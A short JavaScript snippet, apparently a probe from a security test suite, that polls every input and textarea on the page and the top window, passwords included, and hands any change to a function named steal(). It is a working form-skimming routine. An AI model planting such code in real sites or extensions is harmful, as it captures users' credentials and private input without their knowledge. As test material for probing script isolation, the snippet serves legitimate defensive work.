// Tries: read what stands in the fields of forms, the password among them.
(() => {
  let last = "";
  const look = () => {
    for (const view of [window, top]) {
      const values = attempt(() => [...view.document.querySelectorAll("input, textarea")].map((field) => field.value).join());
      if (values !== last) steal("read-fields", (last = values));
    }
  };
  setInterval(look, 50);
  look();
  over("read-fields");
})();
